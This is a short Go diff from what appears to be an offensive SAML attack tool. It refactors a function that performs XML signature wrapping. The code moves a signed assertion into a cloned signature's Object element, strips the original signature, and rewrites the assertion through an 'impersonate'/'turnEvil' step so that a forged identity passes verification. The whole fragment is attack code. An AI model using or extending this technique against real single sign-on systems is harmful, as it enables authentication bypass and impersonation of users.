@@ -282,15 +282,14 @@ func ParseEntityDefinedID(v Victim) Attack {
 					return err
 				}
 				id := as.SelectAttrValue("ID", "")
-				pristine := unsignedCopy(as)
-				pristine.CreateAttr("ID", parseBypassMark+id)
 				clone := sig.Copy()
-				clone.CreateElement(sig.Space + ":Object").AddChild(pristine)
 				as.RemoveChild(sig)
-				if err := impersonate(as, v); err != nil {
+				pristine, err := turnEvil(as, v, true)
+				if err != nil {
 					return err
 				}
-				as.CreateAttr("ID", NewID())
+				pristine.CreateAttr("ID", parseBypassMark+id)
+				clone.CreateElement(sig.Space + ":Object").AddChild(pristine)
 				resp.InsertChildAt(schemaPosition(resp), clone)
 				resp.CreateAttr("ID", parseEntityIDMark+id)
 				return nil
